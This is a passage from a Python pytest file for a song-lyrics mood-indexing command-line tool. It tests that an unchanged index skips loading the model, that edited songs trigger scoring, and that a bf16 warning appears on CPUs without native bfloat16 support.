    # as if the tiny model were the cached default model, known by its recorded fingerprint
    monkeypatch.setattr(default_model, "known_fingerprint", lambda cache=None: read_index_info(out)["fingerprint"])
    def no_model(*args, **kwargs):
        raise LyricMoodError("the model was loaded")

    monkeypatch.setattr(default_model, "load_predictor", no_model)
    code, stdout, _ = run_cli(["index", str(csv_path), "--out", str(out), "--update", "--no-progress"], capsys)
    assert code == 0 and "up to date" in stdout
    edited = song_rows(3)
    edited[2]["lyrics"] += "\nOne more line"  # an edited song must be scored: the model is loaded
    argv = ["index", str(write_csv(tmp_path / "edited.csv", edited)), "--out", str(out), "--update", "--no-progress"]
    code, _, err = run_cli(argv, capsys)
    assert code != 0 and "the model was loaded" in err


@pytest.mark.parametrize("native", [True, False])
def test_bf16_on_a_cpu_without_native_bfloat16_warns(model_dir, tmp_path, monkeypatch, capsys, native):
    from lyricmood.commands import index as index_command

    monkeypatch.setattr(index_command, "cpu_has_native_bf16", lambda: native)
    argv = ["index", str(write_csv(tmp_path / "songs.csv", song_rows(2))), "--out", str(tmp_path / "index"),
            "--model", str(model_dir), "--no-progress", "--bf16"]
    code, _, err = run_cli(argv, capsys)
    assert code == 0 and ("no native bfloat16" in err) is not native
